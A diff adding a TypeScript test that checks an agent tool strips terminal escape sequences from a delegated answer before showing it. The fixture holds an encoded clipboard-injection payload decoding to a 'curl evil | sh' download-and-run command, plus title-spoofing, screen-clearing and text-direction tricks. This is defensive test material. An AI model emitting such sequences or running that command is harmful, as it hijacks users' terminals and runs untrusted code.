@@ -119,6 +119,18 @@ describe("/flow without a model call", () => {
   });
 });
 
+test("runs: an answer that writes escape sequences is kept in the session without them, by inspect and by tail", async () => {
+  pi = await startPiSession();
+  const answer = "First \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007line.\u001b]0;pwned\u0007\u001b[2J\nTwelve\u202e files.";
+  const done = await pi.callTool("external_delegate", { role: "explorer", description: "Count files", prompt: "Count." }, { children: [childAnswers(answer)] });
+  const runId = (done.structuredContent as { data: { run: RunView } }).data.run.runId;
+  for (const action of ["inspect", "tail"]) {
+    const text = await flow(pi, `runs ${runId} ${action}`);
+    expect(text).toContain("First line.\nTwelve files.");
+    expect(text).not.toMatch(/[\u001b\u0007\u009b\u202e]|pwned|Y3VybC/);
+  }
+});
+
 describe("in the interactive TUI", () => {
   let ui: RecordingUi;
   const start = async () => {
